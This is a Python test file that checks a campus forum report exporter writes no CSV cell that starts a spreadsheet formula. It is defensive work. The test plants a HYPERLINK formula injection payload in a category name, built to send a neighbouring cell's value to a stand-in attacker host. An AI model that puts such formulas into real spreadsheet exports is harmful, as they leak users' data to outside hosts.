"""No cell of a CSV Campus writes starts a spreadsheet formula (DESIGN §7, §13)."""

from __future__ import annotations

import csv
from datetime import UTC, datetime

from sqlalchemy import text

from bench.report_mirror import fill_mirror
from reports.render import build_report
from sync.mirror.db import connect
from sync.mirror.loader import load_forum

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1;"Cliquez")'
NOW = datetime(2026, 11, 1, 6, 0, tzinfo=UTC)


def test_a_category_name_never_starts_a_formula_in_indicators_csv(tmp_path):
    engine = connect(f"sqlite:///{tmp_path / 'campus.db'}")
    fill_mirror(engine)
    with engine.begin() as conn:
        conn.execute(
            text("UPDATE categories SET name = :name WHERE slug = 'coop-01'"), {"name": FORMULA}
        )
    folder = build_report(load_forum(engine), "2026-10", tmp_path / "out", now=NOW)
    with (folder / "indicators.csv").open(encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [cell for cell in cells if cell.startswith("-") and not _number(cell)]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
